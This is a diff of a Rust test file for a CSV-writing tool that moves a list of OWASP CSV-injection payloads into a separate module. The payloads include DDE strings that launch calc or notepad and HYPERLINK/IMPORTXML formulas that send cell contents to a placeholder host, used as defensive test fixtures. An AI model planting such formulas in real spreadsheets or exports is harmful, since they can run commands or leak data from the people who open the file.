@@ -2,6 +2,7 @@
 
 #![expect(clippy::unwrap_used, reason = "what fails here fails the test")]
 
+mod awkward;
 mod program;
 
 use std::fs;
@@ -11,6 +12,7 @@ use std::process::{Child, Command, Stdio};
 use std::thread::sleep;
 use std::time::{Duration, Instant};
 
+use awkward::{PAYLOADS, awkward};
 use program::{folder, path, run};
 
 const TEXT: &str = "晋城市教育局\n2020年全市小学365所，在校生111263人。\n";
@@ -164,32 +166,6 @@ fn a_reader_that_leaves_ends_the_run() {
     assert_eq!(ended(child), (Some(0), String::new()));
 }
 
-/// What is known to run in spreadsheets (OWASP, CSV injection), as text that a document may hold.
-const PAYLOADS: [&str; 22] = [
-    "=1+1",
-    "=cmd|' /C calc'!A0",
-    "+cmd|' /C calc'!A0",
-    "-cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "=HYPERLINK(\"http://a.example?x=\"&A1,\"小学\")",
-    "=IMPORTXML(CONCAT(\"http://a.example?\",A1),\"//a\")",
-    "=2+5+cmd|' /C notepad'!'A1'",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "  =1+1",
-    "\u{3000}=1+1",
-    "\u{A0}@SUM(1)",
-    "\"=1+1\"",
-    "\",=1+1",
-    "＝1+1",
-    "＋1",
-    "－1",
-    "＠SUM(1)",
-    "小学;=1+1",
-    "小学\r\n=1+1",
-];
-
 /// Reads a file of CSV with Python's `csv` and says what its cells are, as JSON.
 const READ: &str = "import csv, json, sys\n\
     rows = list(csv.reader(open(sys.argv[1], newline='', encoding='utf-8-sig')))\n\
@@ -209,22 +185,6 @@ fn read_by_python(script: &str, csv: &str) -> Option<Vec<Vec<String>>> {
     }
     assert!(output.status.success(), "{err}");
     Some(serde_json::from_slice(&output.stdout).unwrap())
-}
-
-/// A folder of documents whose names, titles and sentences hold what has to be quoted.
-fn awkward() -> tempfile::TempDir {
-    let files = folder(&[]);
-    for (i, payload) in PAYLOADS.iter().enumerate() {
-        let one_line = payload.replace(['\r', '\n'], " ");
-        let text = format!(
-            "---\ntitle: {one_line}\npublisher: {payload}\n---\n\n{payload}小学\"365\"所,\n初中,115所;\r\n增长-5%。\n"
-        );
-        fs::write(files.path().join(format!("{i:02}.txt")), text).unwrap();
-    }
-    for name in ["=1+1.txt", "@SUM(1),\"2\".txt", "-5%.txt"] {
-        fs::write(files.path().join(name), "2020年全市小学3所,比上年减少5%。").unwrap();
-    }
-    files
 }
 
 /// The CSV of `files` in a file of its own, and the cells that JSON has for the same records.
